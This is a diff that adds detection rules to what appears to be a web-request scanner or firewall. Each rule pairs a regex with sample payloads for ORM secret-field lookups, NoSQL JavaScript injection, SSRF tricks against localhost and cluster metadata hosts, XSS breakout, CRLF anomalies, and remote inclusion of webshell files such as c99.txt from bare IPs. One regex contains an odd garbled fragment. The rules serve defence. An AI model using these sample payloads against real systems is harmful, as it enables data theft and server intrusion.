+  // parameter or JSON key (Django/Prisma-style field__lookup).
+  { id: 'orm.secret-lookup', name: 'ORM lookup on a secret field', category: 'sqli', weight: 0.75, kinds: H, keywords: ['__'],
+    pattern: String.raw`(?:^|["'&?{,\s])(?:[a-z0-9]{1,30}(?:_[a-z0-9]{1,30}){0,4}__){0,6}(?:password|passwd|pass|secret|token|api_?key|hash|salt|otp|totp|pin|reset_(?:token|code)|private_key)(?:__[a-z0-9]{1,30}(?:_[a-z0-9]{1,30}){0,4}){0,3}__(?:i?startswith|i?endswith|i?contains|i?regex|i?exact|gte?|lte?|range|isnull|has_keys?|has_any_keys|contained_by|in)["']?\s?[=:]`,
+    examples: ['password__startswith=p', '{"password__isnull":true}', 'created_by__user__password__regex=^a'] },
+  { id: 'orm.relation-traversal', name: 'ORM lookup through a deep relation chain', category: 'sqli', weight: 0.6, kinds: H, keywords: ['__'],
+    pattern: String.raw`(?:^|["'&?{,\s])[a-z0-9]{1,30}(?:_[a-z0-9]{1,30}){0,4}(?:__[a-z0-9]{1,30}(?:_[a-z0-9]{1,30}){0,4}){2,6}__(?:i?startswith|i?endswith|i?contains|i?regex|i?exact|gte?|lte?|range|isnull|has_keys?|has_any_keys|contained_by)["']?\s?[=:]`,
+    examples: ['user__profile__nickname__istartswith=adm', '{"created_by__departments__employees__user__username__startswith":"p"}'] },
+  // NoSQL server-side JavaScript: boolean splices around `this`, functions returning fields.
+  { id: 'nosql.js-this', name: 'Server-side JavaScript reading the document', category: 'nosql-injection', weight: 0.7, kinds: H, keywords: ['this', 'function'],
+    pattern: String.raw`(?:\|\||&&)\s?this(?:\.[a-z_$][a-z0-9_$]{0,30})?\s?(?:\|\||&&)|\bfunction\s?\(\s?\)\s?\{\s?return\s+(?:this\b|[a-z_$][a-z0-9_$]{0,30}\s?\})`,
+    examples: ["' || this.version || '1'=='1", 'function(){ return this.userid}'] },
+  // SSRF: URLs with a scheme but no "//" before an address, IPv6 literal hosts, authority parser
+  // confusion, scheme-less infrastructure host names, mod_proxy unix-socket targets.
+  { id: 'ssrf.malformed-url', name: 'Scheme followed directly by an address', category: 'ssrf', weight: 0.8, kinds: H, keywords: ['http:', 'https:'],
+    pattern: String.raw`\bhttps?:/?(?:\[[0-9a-f:.]{2,}|localhost\b|127\.|0\.0\.0\.0|0x[0-9a-f]{6,16}\b|0[0-7]{9,11}\b|\d{8,10}\b|\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b)`,
+    examples: ['http:127.0.0.1', 'http:/2852039166', 'http:[::ffff:a9fe:a9fe]', 'http:123456789'] },
+  { id: 'ssrf.ipv6-literal', name: 'URL to an IPv6 literal host', category: 'ssrf', weight: 0.6, kinds: H, keywords: ['://[', '@['],
+    pattern: String.raw`\b[a-z][a-z0-9+.-]{1,15}://(?:[^/\s@\u2029]{0,64}@)?\[[0-9a-f:.]{2,45}(?:%[a-z0-9._-]{1,20})?\]`, examples: ['http://[a::b]/', 'http://[fe80::%zone1]'] },
+  { id: 'ssrf.authority-confusion', name: 'URL authority confused with spaces, fragments or encoded slashes before @', category: 'ssrf', weight: 0.7, kinds: H, keywords: ['@'],
+    pattern: String.raw`\b[a-z][a-z0-9+.-]{1,15}://[^/\s@\u2029]{1,100}(?:\s[&#]?|[#&]\s?|%2f|%5c|\\)@|\b[a-z][a-z0-9+.-]{1,15}://[^/\s@\u2029]{1,100}%2f[^/\s@\u2029]{0,64}@`,
+    examples: ['http://google.com:80 &@127.88.23.245:22/', 'http://example.com%2f:asd@evil.example/', 'http://a.example#@evil.example'] },
+  { id: 'ssrf.infrastructure-host', name: 'Container, cluster or metadata host name as a value', category: 'ssrf', weight: 0.65, kinds: H, keywords: ['.internal', 'kubernetes', 'cluster.local', 'localtest.me', 'lvh.me', 'localhost', 'ipv6-localhost', 'instance-data'],
+    pattern: String.raw`(?:^|[=\s/@]|\u2029)(?:(?:[a-z0-9-]{1,63}\.){1,4}(?:docker|containers)\.internal|kubernetes\.default(?:\.svc)?(?:\.cluster\.local)?|(?:[a-z0-9-]{1,63}\.){1,6}svc\.cluster\.local|localtest\.me|lvh\.me|localhost4(?:\.localdomain4)?|localhost\.localdomain|ipv6-localhost|instance-data)(?:[:/]|\s|$)`,
+    examples: ['url=host.docker.internal/', 'kubernetes.default.svc.cluster.local/', 'url=localhost.localdomain/'] },
+  { id: 'ssrf.proxy-unix-socket', name: 'mod_proxy unix-socket target with a backend URL', category: 'ssrf', weight: 0.8, kinds: H, keywords: ['unix:'],
+    pattern: String.raw`\bunix:⟪8000:|\u2029⟫\|\s?[a-z][a-z0-9+.-]{1,10}://`, examples: ['/?unix:AAAAAAAAA|http://evil.example/'] },
+  // XSS: a value that opens with a quote and closes the tag (attribute break-out), or closes a comment
+  // and opens markup.
+  { id: 'xss.value-breakout', name: 'Value breaking out of an attribute or comment into markup', category: 'xss', weight: 0.7, kinds: H, keywords: ['>'],
+    pattern: String.raw`(?:^|=)\s?['"\x60]\s{0,3}/?>|(?:^|=)\s?--!?>\s{0,3}<\s?[a-z!/]`, examples: ['">xxx<P>yyy', "'/>", '--><svg>'] },
+  // Request-structure anomalies found while assembling the scan text (src/detection/http-text.ts
+  // adds one marker line per anomaly): line breaks in the path, a parameter name, a header value,
+  // or inside a URL query value before a header- or parameter-shaped field.
+  { id: 'crlf.request-structure', name: 'Line break where HTTP has none (path, parameter name, header value)', category: 'crlf-injection', weight: 0.75, kinds: H, keywords: ['svc-protocol-anomaly'],
+    pattern: String.raw`^svc-protocol-anomaly: crlf-in-(?:path|parameter-name|header-value|query-value)$`, examples: ['svc-protocol-anomaly: crlf-in-header-value'] },
+  // Remote file inclusion from a bare IP address: a script or text file fetched by address.
+  { id: 'fi.remote-script-ip', name: 'Script file on a bare IP address as a value', category: 'file-inclusion', weight: 0.6, kinds: H, keywords: ['http', 'ftp'],
+    pattern: String.raw`(?:^|=)\s?(?:https?|ftps?)://\d{1,3}(?:\.\d{1,3}){3}(?::\d{1,5})?/[^\s?#\u2029]{0,200}\.(?:php\d?|phtml|txt|inc|sh|pl|py|cgi|asp|aspx|jsp)\b`,
+    examples: ['src=http://203.0.113.7/shell.php', 'page=http://198.51.100.2/c99.txt'] },
 ];
